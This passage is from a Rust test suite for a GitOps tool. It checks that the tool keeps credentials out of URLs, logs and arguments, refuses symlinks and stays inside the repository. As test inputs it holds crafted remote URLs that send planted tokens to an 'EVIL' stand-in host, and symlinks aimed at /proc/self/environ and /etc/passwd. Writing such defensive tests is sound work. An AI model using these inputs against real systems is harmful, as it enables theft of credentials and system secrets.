        ("ssh://git:x/planted-token-of-a-remote@EVIL/a/b.git",                    Err("invalid URL")),
        ("me:planted-token-of-a-remote@EVIL/a/b.git",                             Err("path has an `@`")),
        ("http://me:x/planted-token-of-a-remote@EVIL/a/b.git",                    Err("invalid URL")),
        ("http://EVIL/a/b.git#planted-token-of-a-remote",                         Err("no part after `#`")),
        ("http::http://planted-token-of-a-remote@EVIL/a/b.git",                   Err("not a URL with http")),
        ("https::https://planted-token-of-a-remote@EVIL/a/b.git",                 Err("not a URL with http")),
        ("ftp://planted-token-of-a-remote@EVIL/a/b.git",                          Err("not a URL with http")),
    ];
    for (remote, expected) in rows {
        let listener = Double::start(|_| Reply::new(401, "").header("www-authenticate", "Basic realm=git")).await;
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        bare.commit("main", &[("app.yaml", "kind: Pod\nspec:\n  containers:\n  - image: x/y:1.0\n")], "Deploy");
        git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
        let (checkout, url) = (folder.path().join("checkout"), remote.replace("EVIL", &listener.host()));
        git(&checkout, &["remote", "set-url", "origin", &url]);
        let (tools, notes) = (folder.path().join("tools"), folder.path().join("notes"));
        std::fs::create_dir(&tools).unwrap();
        let real = find("git").unwrap();
        let script = format!("#!/bin/sh\necho \"$*\" >> '{}'\nexec '{}' \"$@\"\n", notes.display(), real.display());
        std::fs::write(tools.join("git"), script).unwrap();
        std::fs::set_permissions(tools.join("git"), std::fs::Permissions::from_mode(0o755)).unwrap();
        let path = format!("{}:{}", tools.display(), std::env::var("PATH").unwrap());
        let (proxy, _tunnels) = rest_of_the_world();
        let tagboat = Tagboat::new().with("PATH", &path).with("HTTPS_PROXY", &proxy);
        let checkout = checkout.display().to_string();
        let commands = COMMANDS.iter().map(|command| (*command, checkout.as_str()));
        let tagboat = tagboat.with("TAGBOAT_REPOSITORY", &url);
        let on_url = [&["plan"][..], &["check"], &["run"]].into_iter().map(|command| (command, ""));
        for (command, location) in commands.chain(on_url) {
            let place: &[&str] = if location.is_empty() { &[] } else { &["-C", location] };
            let output = tagboat.run(&[command, place].concat());
            let printed = format!("{}{}", output.stdout, output.log);
            assert_eq!(found(&printed), [""; 0], "{remote}: {command:?} prints {printed}");
            if let (Err(cause), ["check" | "run"]) = (expected, command) {
                assert!(printed.contains(cause), "{remote}: {command:?}: {printed}");
            }
        }
        let arguments = std::fs::read_to_string(&notes).unwrap();
        assert_eq!(found(&arguments), [""; 0], "{remote}: {arguments}");
        let mut sent: Vec<_> =
            listener.received().iter().filter_map(|it| it.header("authorization").map(str::to_owned)).collect();
        sent.dedup();
        let login = expected.ok().map(|login| format!("Basic {}", STANDARD.encode(login)));
        assert_eq!(sent, login.into_iter().collect::<Vec<_>>(), "{remote}");
    }
}

/// Arguments of a process are no secret on the machine. The environment may have the same URL.
#[test]
fn refuses_a_password_in_the_url_of_an_argument() {
    let refused = "invalid value for --repository: the URL has a password or a token";
    #[rustfmt::skip]
    let rows = [
        // the URL                                                 refused
        ("https://me:planted-password@git.invalid/a/b.git",        true),
        ("https://planted-token-of-a-remote@git.invalid/a/b.git",  true),
        ("ssh://git:planted-password@git.invalid/a/b.git",         true),
        ("https://acme@git.invalid/a/b.git",                       false),
    ];
    for (url, expected) in rows {
        for command in ["run", "plan", "check", "list"] {
            let output = Tagboat::new().run(&[command, "--repository", url]);
            let printed = format!("{}{}", output.stdout, output.stderr);
            assert_eq!(output.code == 64 && printed.contains(refused), expected, "{command} {url}: {output:?}");
            assert!(!format!("{printed}{}", output.log).contains("planted-password"), "{command} {url}: {output:?}");
            let output = Tagboat::new().with("TAGBOAT_REPOSITORY", url).run(&[command]);
            assert!(!output.stderr.contains(refused), "{command} {url}: {output:?}");
        }
    }
}

#[test]
fn refuses_a_credential_in_the_address_of_the_forge() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit("main", &[("app.yaml", "kind: Pod\nspec:\n  containers:\n  - image: x/y:1.0\n")], "Deploy");
    for url in [
        "http://me:planted-token@127.0.0.1:9/",
        "http://planted-token@127.0.0.1:9/",
        "http://127.0.0.1:9/?token=planted-token",
    ] {
        let config = "forge: { kind: gitea, repository: a/b }\nrules: [{ policy: ignore }]\n";
        let output = Tagboat::new().with_config(config).with("TAGBOAT_FORGE_URL", url).run(&["run", "-C", &bare.url()]);
        assert!(
            output.code == 64 && output.stderr.contains("invalid TAGBOAT_FORGE_URL: it has a user name"),
            "{output:?}"
        );
        assert!(!format!("{output:?}").contains("planted-token@") && !output.log.contains("=planted"), "{output:?}");
    }
}

#[cfg(unix)]
#[test]
fn reads_no_file_outside_the_repository() {
    let folder = tempfile::tempdir().unwrap();
    let link = folder.path().join(config::FILE_NAME);
    for target in ["/proc/self/environ", "/dev/null", "/etc/passwd"] {
        std::os::unix::fs::symlink(target, &link).unwrap();
        let tagboat = Tagboat::new().with("DEPLOY_TOKEN", "planted-deploy-token");
        for command in COMMANDS.iter().filter(|command| !["check", "run", "plan"].contains(&command[0])) {
            let output = tagboat.run(&[*command, &["-C", &folder.path().display().to_string()]].concat());
            assert_eq!(output.code, 64, "{command:?}: {output:?}");
            let printed = format!("{}{}", output.stdout, output.stderr);
            assert!(printed.contains("a symbolic link is not followed"), "{command:?}: {printed}");
            assert!(!printed.contains("planted-deploy-token") && !printed.contains("root:"), "{command:?}: {printed}");
        }
        std::fs::remove_file(&link).unwrap();
    }
}

#[test]
fn run_ignores_and_reports_another_configuration_in_the_checkout() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit(
        "main",
        &[(config::FILE_NAME, "rules: [{ policy: ignore }]\n"), ("app.yaml", "image: nginx:1.0\n")],
        "Deploy",
    );
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = folder.path().join("checkout");
    let forge = format!("forge: {{ kind: local, folder: {} }}\n", folder.path().join("pulls").display());
    // Auto-merge, commits to main, and no valid configuration at all: none of it counts.
    for other in ["rules: [{ mode: commit }]\ngit: { base: main }\n", "polices: {}\n"] {
        std::fs::write(checkout.join(config::FILE_NAME), other).unwrap();
        for command in [&["run", "--dry-run"][..], &["run"]] {
            let at = checkout.display().to_string();
            let arguments = [command, &["-C", &at]].concat();
            let output = Tagboat::new().with_config(&forge).run(&arguments);
            assert_eq!(output.code, 0, "{output:?}");
            assert!(output.stderr.contains("differs from the one on the base branch main"), "{output:?}");
            assert!(output.stdout.contains("nothing to change"), "{output:?}");
        }
    }
    std::fs::remove_file(checkout.join(config::FILE_NAME)).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("app.yaml", checkout.join(config::FILE_NAME)).unwrap();
    let output = Tagboat::new().with_config(&forge).run(&["run", "-C", &checkout.display().to_string()]);
    assert!(output.code == 0 && cfg!(unix) == output.stderr.contains("differs from the one on"), "{output:?}");
    assert_eq!(bare.branches().len(), 1);
}

/// A `--config` inside the checkout is a file of its author, from whichever folder the command runs.
#[test]
fn configuration_inside_the_checkout_belongs_to_the_repository() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    let files =
        [("ci.yaml", "registries: { a.test: { token-env: DEPLOY_TOKEN } }\n"), ("apps/app.yaml", "image: nginx:1.0\n")];
    bare.commit("main", &files, "Deploy");
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let (checkout, config) = (folder.path().join("checkout"), folder.path().join("checkout/ci.yaml"));
    for (command, folder) in [("list", "."), ("list", "apps"), ("plan", "apps"), ("run", "."), ("check", "apps")] {
        let at = checkout.join(folder).display().to_string();
        let output = Tagboat::new().run(&[command, "-C", &at, "--config", config.to_str().unwrap()]);
        assert_eq!(output.code, 64, "{command} {folder}: {output:?}");
        assert!(output.log.contains("`token-env` is not allowed"), "{command} {folder}: {output:?}");
    }
    // Outside, the same file is the operator's.
    let outside = checkout.join("../operator.yaml");
    std::fs::write(&outside, "rules: [{ policy: ignore }]\n").unwrap();
    let output =
        Tagboat::new().run(&["list", "-C", &checkout.display().to_string(), "--config", outside.to_str().unwrap()]);
    assert!(output.code == 0 && output.stdout.contains("operator.yaml:1"), "{output:?}");
}

/// A pull request may add a folder whose name reads like the URL that the job names.
#[test]
fn folder_named_like_a_url_does_not_take_its_place() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit("main", &[("app.yaml", "image: x/from-the-remote:1.0\n")], "Deploy");
    let url = format!("file://{}", bare.url().trim_start_matches("file://"));
    let tagboat = Tagboat::new().with_config("rules: [{ policy: ignore }]\n");
    // The file system reads `//` as `/`.
    let named = tagboat.home().join(&url);
    std::fs::create_dir_all(&named).unwrap();
    std::fs::write(named.join("app.yaml"), "image: x/from-the-folder:1.0\n").unwrap();
    let output = tagboat.run(&["list", "--repository", &url]);
    assert!(output.stdout.contains("from-the-remote") && !output.stdout.contains("from-the-folder"), "{output:?}");
}

/// A pull request may add links where a report or a new configuration is written.
#[cfg(unix)]
#[test]
fn writes_nothing_through_links_in_the_checkout() {
    let place = tempfile::tempdir().unwrap();
    let bare = Bare::new(place.path(), "gitops");
    git(place.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let (checkout, outside) = (place.path().join("checkout"), place.path().join("outside"));
    std::fs::create_dir(&outside).unwrap();
    std::fs::create_dir(checkout.join("apps")).unwrap();
    std::fs::write(checkout.join("apps/app.yaml"), "image: nginx:1.0\n").unwrap();
    for (link, target) in [("file.json", "file.json"), ("out", ""), ("apps/tagboat.yaml", "tagboat.yaml")] {
        std::os::unix::fs::symlink(outside.join(target), checkout.join(link)).unwrap();
    }
    let file = |name: &str| checkout.join(name).display().to_string();
    let apps = file("apps");
    let config = place.path().join("operator.yaml").display().to_string();
    std::fs::write(&config, "rules: [{ policy: ignore }]\nrepository-config: ignore\n").unwrap();
    let edit = ["edit", "-C", &apps, "--config", &config];
    for arguments in [
        &[&edit[..], &["--report", &file("file.json")]].concat()[..],
        &[&edit[..], &["--report", &file("apps/../file.json")]].concat(),
        &[&edit[..], &["--report", &file("out/file.json")]].concat(),
        &[&edit[..], &["--junit", &file("out/junit")]].concat(),
        &["init", "-C", &apps, "--force"],
    ] {
        let output = Tagboat::new().run(arguments);
        assert!(
            output.code != 0 && output.log.contains("a symbolic link is not followed"),
            "{arguments:?}: {output:?}"
        );
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0, "{arguments:?}");
    }
    // What is outside of the checkout is the operator's.
    let linked = place.path().join("linked.json");
    std::os::unix::fs::symlink(outside.join("report.json"), &linked).unwrap();
    let output = Tagboat::new().run(&[&edit[..], &["--report", linked.to_str().unwrap()]].concat());
    assert!(output.code == 0 && outside.join("report.json").exists(), "{output:?}");
}

/// A pull request may fill a folder of the checkout with answers that no registry gave.
#[cfg(unix)]
#[test]
fn uses_no_cache_folder_that_a_commit_has_filled() {
    let place = tempfile::tempdir().unwrap();
    let bare = Bare::new(place.path(), "gitops");
    let files = [("apps/app.yaml", "image: nginx:1.0\n"), ("Cache/seen/a", "x"), ("file", "x"), ("a/b/lists/c", "x")];
    bare.commit("main", &files, "Deploy");
    git(place.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = place.path().join("checkout");
    std::os::unix::fs::symlink(place.path().join("elsewhere"), checkout.join("link")).unwrap();
    std::os::unix::fs::symlink(&checkout, place.path().join("way")).unwrap();
    std::fs::create_dir(checkout.join("own")).unwrap();
    let config = place.path().join("operator.yaml").display().to_string();
    std::fs::write(&config, "rules: [{ policy: ignore }]\nrepository-config: ignore\n").unwrap();
    #[rustfmt::skip]
    let rows = [
        // the folder         refused because
        ("checkout/Cache",    Some("the repository has files in it")),
        ("checkout/cache",    Some("the repository has files in it")),
        ("checkout/Cache/seen", Some("the repository has files in it")),
        ("checkout/a",        Some("the repository has files in it")),
        ("checkout/x/../a/b", Some("the repository has files in it")),
        ("checkout/file",     Some("the repository has files in it")),
        ("checkout/apps",     Some("the repository has files in it")),
        ("way/Cache",         Some("the repository has files in it")),
        ("checkout/link/a",   Some("a symbolic link is not followed")),
        ("checkout/own",      None),
        ("checkout/new/b",    None),
        ("checkout/Cac",      None),
        ("way/own",           None),
        ("outside",           None),
    ];
    for (folder, cause) in rows {
        let cache = place.path().join(folder).display().to_string();
        let commands: &[&str] = if folder == "checkout/Cache" { &["edit", "plan", "check"] } else { &["edit"] };
        for command in commands {
            let at = checkout.display().to_string();
            let output = Tagboat::new().run(&[command, "-C", &at, "--config", &config, "--cache-dir", &cache]);
            let printed = format!("{}{}", output.stdout, output.stderr);
            let refused = printed.contains("cannot use the cache folder");
            assert_eq!(refused, cause.is_some(), "{folder} {command}: {output:?}");
            if refused {
                assert!(printed.contains(cause.unwrap()) && printed.contains("#caching"), "{folder}: {printed}");
            }
        }
    }
}

/// An unpacked archive has no commit that shows which files are in it.
#[test]
fn uses_no_cache_folder_in_a_working_tree_without_git() {
    let place = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(place.path().join("unpacked/cache/seen")).unwrap();
    std::fs::write(place.path().join("unpacked/app.yaml"), "image: nginx:1.0\n").unwrap();
    let config = "rules: [{ policy: ignore }]\nrepository-config: ignore\n";
    let rows = [
        ("unpacked/cache", true),
        ("unpacked/new/a", true),
        ("unpacked", true),
        ("unpacked/../outside", false),
        ("outside", false),
    ];
    for (folder, expected) in rows {
        let at = |name: &str| place.path().join(name).display().to_string();
        let output =
            Tagboat::new().with_config(config).run(&["edit", "-C", &at("unpacked"), "--cache-dir", &at(folder)]);
        let is_refused = output.code == 64 && output.stderr.contains("it is in a working tree without git");
        assert_eq!(is_refused, expected, "{folder}: {output:?}");
        assert_eq!(output.code == 0, !expected, "{folder}: {output:?}");
    }
}

/// A kill or a full disk during the write of a report leaves the report of an earlier run whole.
#[cfg(unix)]
#[test]
fn interrupted_report_leaves_the_old_one() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("operator.yaml"), "rules: [{ policy: ignore }]\n").unwrap();
    for (flag, file) in [("--report", "r.json"), ("--report", "r.html"), ("--junit", "j")] {
        let path = folder.path().join(file);
        std::fs::write(&path, "old").unwrap();
        let arguments = [
            "edit".to_owned(),
            "-C".to_owned(),
            folder.path().display().to_string(),
            "--config".to_owned(),
            folder.path().join("operator.yaml").display().to_string(),
            flag.to_owned(),
            path.display().to_string(),
        ];
        let arguments = arguments.each_ref().map(|argument| argument.as_str());
        // No file may have a byte: the write ends the process.
        let limit = ["bash", "-c", "ulimit -f 0; exec \"$@\"", "bash"].map(str::to_owned).to_vec();
        let output = Tagboat::new().started_by(limit).run(&arguments);
        assert_ne!(output.code, 0, "{output:?}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "old", "{flag}: {output:?}");
        let output = Tagboat::new().run(&arguments);
        assert_eq!(output.code, 0, "{output:?}");
        assert_ne!(std::fs::read_to_string(&path).unwrap(), "old", "{flag}: {output:?}");
        assert_eq!(
            std::fs::read_dir(folder.path())
                .unwrap()
                .filter(|it| it.as_ref().unwrap().file_name().to_string_lossy().contains(".tmp"))
                .count(),
            0
        );
    }
}

/// A secret that is named and cannot be read is an error: another one would be used in its place, or none.
#[test]
fn refuses_to_run_without_a_secret_that_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit("main", &[("app.yaml", "image: x/y:1.0\n")], "Deploy");
    let absent = folder.path().join("absent").display().to_string();
    let rows = [
        ("TAGBOAT_FORGE_TOKEN_FILE", &*absent, "cannot read the file that TAGBOAT_FORGE_TOKEN_FILE names: "),
        ("TAGBOAT_SIGNING_KEY_FILE", &absent, "cannot read the file that TAGBOAT_SIGNING_KEY_FILE names: "),
        ("TAGBOAT_APP_PRIVATE_KEY_FILE", &absent, "cannot read the file that TAGBOAT_APP_PRIVATE_KEY_FILE names: "),
        ("TAGBOAT_GIT_PASSWORD_FILE", &absent, "cannot read the file that TAGBOAT_GIT_PASSWORD_FILE names: "),
        ("TAGBOAT_APP_ID", "1", "TAGBOAT_APP_PRIVATE_KEY is not set"),
    ];
    for (name, value, cause) in rows {
        let config =
            "rules: [{ policy: ignore }]\nforge: { kind: gitea, repository: a/b, url: 'https://git.invalid' }\n";
        let tagboat = Tagboat::new().with_config(config).with(name, value);
        let output = tagboat.run(&["run", "-C", &bare.url()]);
        assert!(output.code == 64 && output.stderr.contains(cause), "{output:?}");
    }
}

/// No setting of the repository writes pull requests outside of it.
#[cfg(unix)]
#[test]
fn local_forge_of_the_repository_stays_inside_it() {
    let place = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let bare = Bare::new(place.path(), "gitops");
    git(place.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = place.path().join("checkout");
    std::os::unix::fs::symlink(outside.path(), checkout.join("link")).unwrap();
    let elsewhere = outside.path().display().to_string();
    #[rustfmt::skip]
    let rows = [
        (format!("folder: {elsewhere}"),                  "is no folder of its working tree"),
        ("folder: ../pulls".to_owned(),                   "is no folder of its working tree"),
        ("folder: link/pulls".to_owned(),                 "is no folder of its working tree"),
        ("folder: .git/refs/heads".to_owned(),            "is no folder of its working tree: .git/refs/heads"),
        ("url: 'https://a.test/../../../pulls', repository: a/b".to_owned(), "missing `forge.folder`"),
    ];
    for (setting, cause) in rows {
        let config = format!("forge: {{ kind: local, {setting} }}\n");
        bare.commit("main", &[(config::FILE_NAME, &config)], "Configure");
        let output = Tagboat::new().run(&["run", "-C", &checkout.display().to_string()]);
        assert!(output.code != 0 && output.stderr.contains(cause), "{setting}: {output:?}");
    }
    bare.commit("main", &[(config::FILE_NAME, "{}\n")], "Configure");
    let tagboat = Tagboat::new()
        .with_config(&format!("forge: {{ kind: local, folder: '{}' }}\n", checkout.join("link/pulls").display()));
    let output = tagboat.run(&["run", "-C", &checkout.display().to_string()]);
    assert!(output.code == 64 && output.stderr.contains("link/pulls: a symbolic link is not followed"), "{output:?}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}
